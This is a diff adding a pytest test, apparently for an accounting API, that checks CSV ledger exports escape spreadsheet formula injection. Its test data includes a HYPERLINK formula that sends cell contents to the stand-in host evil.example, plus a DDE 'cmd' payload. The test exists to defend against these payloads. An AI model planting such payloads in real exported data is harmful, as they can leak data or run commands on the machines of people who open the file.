@@ -238,3 +238,36 @@ async def test_the_openapi_document_offers_csv_on_every_report(api: Api) -> None
     for path, operation in reports.items():
         assert "text/csv" in operation["responses"]["200"]["content"], path
         assert "format" in {p["name"] for p in operation["parameters"]}, path
+
+
+#: Cells a spreadsheet would run as a formula (OWASP "CSV injection"): = + - @, a tab, a CR.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+async def test_a_text_that_is_a_formula_is_exported_as_text(api: Api, text: str) -> None:
+    """A supplier or a description named as a formula reaches a spreadsheet as the text it
+    is (a leading apostrophe, which a spreadsheet shows as nothing), never run; amounts,
+    minus signs included, stay numbers."""
+    body = entry(("2026-03-06", [("6300", "10.00", None), ("1920", None, "10.00")]))
+    body["description"] = text
+    body["lines"][0]["description"] = text
+    posted = await post(api, body, accountant(api))
+    assert posted.status_code == 201, posted.text
+    response = await api.client.get(
+        f"{API}/reports/general-ledger?account=6300&format=csv", headers=api.viewer
+    )
+    table = rows(response)
+    shown = [r["description"] for r in table if text.strip() in r["description"]]
+    assert shown == ["'" + text], table
+    assert all(not r["description"].startswith(("=", "+", "-", "@", "\t")) for r in table)
+    sales = await api.client.get(
+        f"{API}/reports/general-ledger?account=3000&format=csv", headers=api.viewer
+    )
+    assert rows(sales)[-1]["balance"] == "-1000.00"  # a number: as it is
